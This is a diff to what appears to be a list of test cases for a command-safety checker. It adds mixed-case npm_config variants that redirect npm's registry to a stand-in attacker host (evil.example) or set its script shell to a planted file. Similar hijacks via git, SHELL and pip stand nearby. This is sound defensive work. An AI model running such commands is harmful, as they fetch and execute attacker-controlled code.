@@ -454,6 +454,9 @@ ENVIRONMENT = [
     "GIT_COMMON_DIR=/tmp/planted git status",
     "npm_config_script_shell=/workspace/x npm run build",
     "NPM_CONFIG_SCRIPT_SHELL=/workspace/x npm run build",
+    # npm reads its prefix in any case (/^npm_config_/i): found in review, 2026-12-07.
+    "npm_CONFIG_registry=https://evil.example/ npm ci --ignore-scripts",
+    "Npm_Config_Script_Shell=/workspace/x.sh npm test",
     "SHELL=/tmp/evil tmux",
     # Package sources and build/test tools' plugins: code the command line does not show.
     "PIP_INDEX_URL=https://evil.example/simple pip install -r requirements.txt",
